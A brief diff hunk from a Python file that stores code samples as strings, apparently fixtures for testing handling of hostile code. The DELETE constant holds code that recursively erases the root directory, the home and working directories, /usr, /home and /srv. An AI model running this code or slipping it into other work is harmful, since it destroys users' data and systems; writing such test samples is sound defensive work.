@@ -74,7 +74,7 @@ for number in range(3, 40):
 """
 DELETE = """
 import shutil, os
-for place in ("/", os.path.expanduser("~"), os.getcwd(), sys.prefix if 'sys' in dir() else "/usr", "/work", "/home"):
+for place in ("/", os.path.expanduser("~"), os.getcwd(), "/usr", "/home", "/srv"):
     shutil.rmtree(place, ignore_errors=True)
 """
 SPY = """
